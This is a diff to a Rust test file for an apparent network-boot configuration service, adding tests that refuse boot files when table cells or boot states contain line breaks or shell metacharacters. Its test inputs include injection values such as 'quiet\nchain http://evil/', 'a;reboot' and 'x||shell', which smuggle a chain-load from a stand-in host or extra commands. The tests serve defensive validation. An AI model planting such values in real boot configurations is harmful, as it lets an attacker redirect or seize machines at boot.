@@ -276,6 +276,10 @@ fn other_paths_are_no_views() {
     }
 }
 
+/// Views that are refused, with the reason as text, where a node has no plan.
+const TEXTS: [&str; 4] =
+    ["pxelinux.cfg/NODE", "boot/grub2/NODE", "petitboot/NODE", "xcat/xnba/nodes/NODE.elilo"];
+
 #[test]
 fn a_cell_cannot_leave_its_line() {
     for cell in ["quiet\nchain http://evil/", "a;reboot", "${net0/mac}", "x||shell"] {
@@ -283,8 +287,28 @@ fn a_cell_cannot_leave_its_line() {
         let snapshot = snapshot(vec![("bootparams", &row)]);
         let script = ask(&snapshot, "xcat/xnba/nodes/cn1", "10.1.0.5");
         assert!(matches!(script, Some(Answer::Explained { .. })), "{cell}: {script:?}");
-        for path in ["pxelinux.cfg/cn1", "boot/grub2/cn1", "petitboot/cn1"] {
-            assert!(matches!(ask(&snapshot, path, "10.1.0.5"), Some(Answer::Refused(_))), "{path}: {cell}");
+        for path in TEXTS {
+            let answer = ask(&snapshot, &path.replace("NODE", "cn1"), "10.1.0.5");
+            assert!(matches!(answer, Some(Answer::Refused(_))), "{path}: {cell}");
+        }
+    }
+}
+
+/// The state is the comment line of every boot file.
+#[test]
+fn a_state_of_two_lines_is_no_state() {
+    for state in ["netboot a\nchain http://evil/", "install \r\nshell", "runcmd=a\nb"] {
+        let row = [("node", "cn2"), ("currstate", state)];
+        let more = [("nodetype", &[("node", "cn2"), ("provmethod", "deb")] as &[_]), ("chain", &row)];
+        let snapshot = snapshot(more.to_vec());
+        let script = ask(&snapshot, "xcat/xnba/nodes/cn2", "10.1.0.6");
+        assert!(
+            matches!(&script, Some(Answer::Explained { reason, .. }) if reason.contains("boot state")),
+            "{script:?}"
+        );
+        for path in TEXTS {
+            let answer = ask(&snapshot, &path.replace("NODE", "cn2"), "10.1.0.6");
+            assert!(matches!(answer, Some(Answer::Refused(_))), "{path}: {answer:?}");
         }
     }
 }
@@ -394,7 +418,7 @@ proptest::proptest! {
     /// Whatever a cell holds, the script has the lines it always has, and nothing in them that was not ours is a variable or
     /// ends a command.
     #[test]
-    fn no_cell_breaks_out_of_a_script(cell in ".{0,40}|[ a|&;#$`{}\"'\\\\\n\r-]{0,12}", in_state: bool) {
-        super::fuzz::cell_stays_inside(&cell, in_state);
+    fn no_cell_breaks_out_of_a_script(cell in ".{0,40}|[ a|&;#$`{}\"'\\\\\n\r-]{0,12}", place in 0_u8..3) {
+        super::fuzz::cell_stays_inside(&cell, place);
     }
 }
